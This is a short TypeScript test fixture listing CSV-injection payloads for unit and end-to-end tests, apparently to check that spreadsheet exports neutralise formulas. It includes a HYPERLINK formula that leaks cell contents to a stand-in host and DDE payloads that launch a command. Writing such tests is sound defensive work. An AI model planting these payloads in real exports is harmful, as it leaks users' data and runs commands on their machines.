/**
 * Cell texts a spreadsheet would run as formulas: the attacks OWASP lists for CSV injection, and
 * what an officer pasting from Excel could bring. Shared by the unit and end-to-end tests.
 */
export const FORMULA_PAYLOADS = [
  '=HYPERLINK("http://x.example/?leak="&A1,"click")',
  "+cmd|' /C calc'!A0",
  '@SUM(1+1)',
  "-2+3+cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
] as const;
